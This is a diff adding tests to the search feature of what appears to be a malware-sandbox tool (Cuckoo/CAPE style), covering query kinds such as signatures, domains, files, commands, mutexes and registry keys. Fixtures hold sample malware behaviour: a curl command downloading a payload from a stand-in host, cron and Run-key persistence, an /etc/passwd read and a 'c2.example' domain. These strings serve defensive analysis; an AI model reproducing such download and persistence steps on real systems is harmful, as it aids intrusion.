@@ -194,7 +194,50 @@ describe('TaskSearch', () => {
       expect(() => find(q), q).toThrow(SearchSyntaxError)
       expect(() => find(q), q).toThrow(message)
     }
-    expect(find('http://not-a-kind.example/')).toEqual([]) // an unknown word: is plain text
+    expect(find('http://not-a-kind.example/')).toEqual([]) // a scheme is no kind: plain text
+  })
+
+  it('says a kind it does not know, and takes URLs, IPv6 addresses, drive letters and ports as text', () => {
+    expect(() => find('signatur:antivm')).toThrow(/^'signatur:' is not a search kind \(kinds: domain, ip, url, sig, hash, name, file, command, mutex, key, tag, machine, id\)$/)
+    expect(() => find('evil.com foo:bar')).toThrow(SearchSyntaxError)
+    for (const q of ['http://a.example/', 'fe80::1', 'dead:beef::1', 'C:\\x', 'localhost:8080']) expect(() => find(q), q).not.toThrow()
+  })
+
+  it("takes Cuckoo's and CAPE's spellings of the kinds", () => {
+    const a = insert('/u/h/a.exe', { status: 'reported' })
+    insert('/u/h/b.exe', { status: 'reported' })
+    index(a, { signatures: [{ name: 'starts_shell' }], network: { domains: [{ domain: 'c2.example' }] }, dropped: [DROPPED] })
+    for (const q of ['signature:starts_shell', 'SIGNAME:starts_shell', 'sig:starts', 'host:c2.example', `md5:${DROPPED.md5}`, `sha256:${DROPPED.sha256}`]) {
+      expect(find(q), q).toEqual([a])
+    }
+  })
+
+  it('finds what the run touched: file:, path:, command:, mutex:, key:, and plain text', () => {
+    const a = insert('/u/h/a.sh', { status: 'reported' })
+    const b = insert('/u/h/b.sh', { status: 'reported' })
+    index(a, { behavior: { summary: { file_written: ['/tmp/update.bin', '/etc/cron.d/crontab.txt'], mutex: ['Global\\M1'], regkey_written: ['HKCU\\Software\\Run'] },
+      processes: [{ command_line: '/usr/bin/curl -o /tmp/update.bin http://e.example/' }] } })
+    index(b, { behavior: { summary: { file_opened: ['/etc/passwd'] } } })
+    expect(find('file:crontab.txt')).toEqual([a])
+    expect(find('file:/tmp/update.bin')).toEqual([a])
+    expect(find('path:/etc/passwd')).toEqual([b])
+    expect(find('crontab.txt')).toEqual([a])
+    expect(find('/tmp/update.bin')).toEqual([a])
+    expect(find('command:curl')).toEqual([a])
+    expect(find('command:"/usr/bin/curl -o /tmp/update.bin http://e.example/"')).toEqual([a])
+    expect(find('mutex:global\\m1')).toEqual([a])
+    expect(find('key:HKCU\\Software\\Run')).toEqual([a])
+    expect(find('file:update.bin command:curl')).toEqual([a])
+  })
+
+  it("finds an archive's members by the archive's name (option archive=), its name staying the member's", () => {
+    const member = Number(db.prepare(`INSERT INTO tasks (category, target, clock, added_on, status, tags, options)
+      VALUES ('archive', '/u/h/inner1.sh', '2026-01-01 00:00:00', '2026-01-01 00:00:00', 'pending', '[]', 'archive=two.zip,filename=dir/inner1.sh')`).run().lastInsertRowid)
+    const other = insert('/u/h/readme.txt')
+    expect(find('two.zip')).toEqual([member])
+    expect(find('name:two')).toEqual([member])
+    expect(find('inner1')).toEqual([member])
+    expect(find('readme')).toEqual([other])
   })
 
   it('sees what another connection writes, names included (SQL triggers), and drops terms with their task', () => {
